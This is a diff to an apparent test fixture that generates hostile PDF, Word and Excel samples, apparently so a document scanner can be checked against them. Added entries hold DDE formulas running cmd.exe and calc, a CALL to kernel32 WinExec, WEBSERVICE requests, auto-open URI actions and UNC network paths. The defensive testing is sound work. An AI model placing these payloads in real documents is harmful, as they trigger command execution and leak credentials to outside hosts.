@@ -165,6 +165,8 @@ HOSTILE = {
         "envoie.pdf": lambda: pdf(b"/OpenAction<</S/SubmitForm/F(http://x)>>"),
         "adresse ouverte.pdf": lambda: pdf(b"/OpenAction<</S/URI/URI(http://x)>>"),
         "adresse à la page.pdf": lambda: pdf(b"", b"<</AA<</O<</S/URI/URI(http://x)>>>>>>"),
+        "adresse à la suite.pdf": lambda: pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://x)>>]>>"),
+        "réseau à barres.pdf": lambda: pdf(b"", b"<</Type/Filespec/F(//10.0.0.1/x)>>"),
         "réseau.pdf": lambda: pdf(b"", b"<</Type/Filespec/F(\\\\\\\\10.0.0.1\\\\x)>>"),
         "réseau en utf-16.pdf": lambda: pdf(b"", b"<</UF<FEFF005C005C0031>>>"),
         "fichier local.pdf": lambda: pdf(b"", b"<</S/URI/URI(file:///etc/passwd)>>"),
@@ -215,10 +217,26 @@ HOSTILE = {
         "dde coupé.docx": lambda: office(WORD, field(" D", "D", "E c:\\\\cmd.exe")),
         "image d’ailleurs.docx": lambda: office(WORD, field('INCLUDEPICTURE "http://x"')),
         "texte d’ailleurs.docx": lambda: office(WORD, field("INCLUDETEXT \\\\\\\\x")),
+        "dde ailleurs.docx": lambda: office(WORD, {"autre/x.bin": field("DDEAUTO c:\\\\cmd.exe")[NAMES[1]]}),
+        "dde d’un autre nom.docx": lambda: office(
+            WORD, {NAMES[1]: b'<a xmlns:z="w"><z:fldSimple z:instr="DDE x y"/></a>'}
+        ),
+        "dde nommée.xlsx": lambda: office(
+            EXCEL, {"xl/workbook.xml": b"<workbook><definedName>cmd|'/C calc'!A0</definedName></workbook>"}
+        ),
+        "dde d’une règle.xlsx": lambda: office(
+            EXCEL, {"xl/worksheets/s.xml": b"<worksheet><formula1>cmd|'/C calc'!A0</formula1></worksheet>"}
+        ),
+        "adresse appelée.xlsx": lambda: formula('_xlfn.WEBSERVICE("http://x")'),
+        "programme appelé.xlsx": lambda: formula('1+CALL("kernel32","WinExec","JCJ","calc",0)'),
         "dde.xlsx": lambda: formula("cmd|'/C calc'!A0"),
     },
     "office_link": {
         "modèle du réseau.docx": lambda: office(links=own_template("file://10.0.0.1/x.dotm")),
+        "connexions ailleurs.xlsx": lambda: office(
+            EXCEL,
+            types=f'<Override ContentType="{EXCEL.replace("sheet.main", "connections")}"/>',
+        ),
         "connexions.xlsx": lambda: office(EXCEL, {"xl/connections.xml": b"<connections/>"}),
         "modèle.docx": lambda: office(links=link("attachedTemplate")),
         "image liée.docx": lambda: office(links=link("image", "file://10.0.0.1/x.png")),
